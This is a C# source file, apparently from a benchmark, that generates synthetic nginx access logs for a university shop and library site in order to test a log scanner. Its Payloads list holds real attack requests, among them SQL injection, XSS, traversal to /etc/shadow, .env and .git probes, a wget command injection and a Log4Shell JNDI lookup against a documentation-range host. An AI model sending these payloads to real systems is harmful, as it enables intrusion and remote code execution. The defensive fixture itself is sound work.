using System.Globalization;
using System.Text;

namespace SopWebsite.Bench.VisitorLogs;

/// <summary>
/// Makes a log of another kind: a university's shop and library in English behind nginx, with visitors who come in sessions, addresses of their
/// own for many pages, long referers, crawlers, an API with tokens, and attackers, about one line in a hundred, who send what
/// they please. The scanner was never tuned on it.
/// </summary>
internal sealed class OtherLogMaker(int seed)
{
    private static readonly string[] Nouns = "cardigan thermos ledger violin quartz beaker jacket mug lanyard notebook hoodie poster atlas thesis microfilm manuscript periodical lecture seminar dissertation fellowship dormitory cafeteria gymnasium".Split(' ');
    private static readonly string[] Adjectives = "navy vintage recycled limited annual graduate quiet visiting emeritus digital rare woven ceramic oversized foldable quarterly".Split(' ');
    private static readonly string[] Sections = ["shop/product", "library/record", "library/holdings", "people", "departments/physics", "departments/law", "news/archive", "events", "repository/handle/10021", "opac/biblio"];
    private static readonly string[] Browsers =
    [
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.{0} Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:1{0}.0) Gecko/20100101 Firefox/1{0}.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/1{0}.0.6{0}.88 Safari/537.36 Edg/1{0}.0.0.0",
        "Mozilla/5.0 (Linux; Android 13; SM-A5{0}B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/2{0}.0 Chrome/1{0}.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", "okhttp/4.{0}.0", "python-requests/2.{0}.1",
    ];

    private static readonly string[] Payloads =
    [
        "/shop/product?sku=9%20AND%20(SELECT%207%20FROM(SELECT%20COUNT(*),CONCAT(0x71,FLOOR(RAND(0)*2))x%20FROM%20INFORMATION_SCHEMA.PLUGINS%20GROUP%20BY%20x)a)", "/library/record?id=-8'%20UNION%20ALL%20SELECT%20NULL,CHAR(113)--%20",
        "/opac/search?q=%22%3E%3Csvg%2Fonload%3Dconfirm(document.domain)%3E", "/download?f=..%2f..%2f..%2f..%2fetc%2fshadow", "/admin/config.php.old", "/.git/HEAD", "/wp-content/uploads/2024/03/wp.php", "/cgi-bin/.%2e/%2e%2e/bin/sh",
        "/api/v2/run?cmd=%24%28wget%20-qO-%20198.51.100.77%2Fz%29", "/?x=${jndi:ldap://198.51.100.77:1389/a}", "/vendor/.env", "/owa/auth/x.js", "/index.php?lang=../../../../tmp/x",
    ];

    private readonly Random _random = new(seed);
    private readonly byte[] _line = new byte[16 * 1024];
    private readonly List<Session> _sessions = [];
    private double _time = 1_720_000_000;

    public void Write(Stream stream, long bytes)
    {
        for (var n = 0; n < 400; n++) _sessions.Add(NewSession());
        for (long written = 0; written < bytes;)
        {
            _time += _random.NextDouble() / 12;
            var at = _random.Next(_sessions.Count);
            var session = _sessions[at];
            var text = session.Next(_time);
            if (session.Left-- <= 0) _sessions[at] = NewSession();
            var length = Encoding.Latin1.GetBytes(text, _line);
            _line[length++] = (byte)'\n';
            stream.Write(_line, 0, length);
            written += length;
        }
    }

    private Session NewSession()
    {
        var address = _random.Next(5) == 0
            ? string.Create(CultureInfo.InvariantCulture, $"2a02:{_random.Next(65536):x}:{_random.Next(65536):x}:{_random.Next(16):x}::{_random.Next(1, 65536):x}")
            : string.Create(CultureInfo.InvariantCulture, $"{_random.Next(1, 224)}.{_random.Next(256)}.{_random.Next(256)}.{_random.Next(256)}");
        var agent = string.Format(CultureInfo.InvariantCulture, Browsers[(int)(Browsers.Length * Math.Pow(_random.NextDouble(), 1.5))], _random.Next(10, 32));
        return new Session(_random, address, agent, _random.Next(1500) == 0);
    }

    private sealed class Session(Random random, string address, string agent, bool attacks)
    {
        private string _page = "https://search.example.com/results?q=" + Uri.EscapeDataString(Title(random)) + "&client=web-" + random.Next(1000);

        public int Left { get; set; } = attacks ? random.Next(5, 400) : (int)(2 / (0.02 + random.NextDouble()));

        public string Next(double time)
        {
            var (target, status) = attacks && random.Next(3) > 0 ? (Payloads[random.Next(Payloads.Length)] + (random.Next(2) == 0 ? "" : "&_=" + random.Next()), random.Next(4) == 0 ? 200 : 404) : Visit();
            var line = string.Create(CultureInfo.InvariantCulture,
                $"{address} - - [{DateTimeOffset.FromUnixTimeSeconds((long)time):dd'/'MMM'/'yyyy':'HH':'mm':'ss} +0000] \"{(random.Next(25) == 0 ? "POST" : "GET")} {target} HTTP/2.0\" {status} {random.Next(90, 240_000)} \"{_page}\" \"{agent}\"");
            if (!target.Contains('.', StringComparison.Ordinal)) _page = "https://www.example.edu" + target;
            return line;
        }

        private (string Target, int Status) Visit() => random.Next(10) switch
        {
            0 or 1 or 2 => ($"/_next/static/chunks/{random.Next(1 << 28):x}-{random.Next(1 << 28):x}.js", 200),
            3 => ($"/covers/{random.Next(90_000)}/thumb_{random.Next(3)}.webp", random.Next(9) == 0 ? 404 : 200),
            4 => ($"/api/v2/session/{Guid(random)}?fields=name,email,role&expand=true", random.Next(20) == 0 ? 401 : 200),
            5 => ("/opac/search?q=" + Uri.EscapeDataString(Title(random)) + "&limit=branch%3Amain&sort_by=relevance_dsc", 200),
            6 => ($"/{Sections[random.Next(Sections.Length)]}/{random.Next(400_000)}", random.Next(12) == 0 ? 301 : 200),
            7 => ($"/{Sections[random.Next(Sections.Length)]}/{Title(random).Replace(' ', '-')}?session={Guid(random)}", 200),
            8 => ("/collect?v=2&tid=G-" + random.Next(99999) + "&dl=https%3A%2F%2Fwww.example.edu%2F" + Title(random).Replace(" ", "%20", StringComparison.Ordinal) + "&sr=1920x1080&_s=" + random.Next(9), 204),
            _ => ($"/{Sections[random.Next(Sections.Length)]}/?page={random.Next(90)}&facet[subject]={Nouns[random.Next(Nouns.Length)]}", 200),
        };

        private static string Title(Random random) => Adjectives[random.Next(Adjectives.Length)] + " " + Nouns[random.Next(Nouns.Length)] + " " + random.Next(1, 3000);

        private static string Guid(Random random)
        {
            var bytes = new byte[16];
            random.NextBytes(bytes);
            return new Guid(bytes).ToString();
        }
    }
}
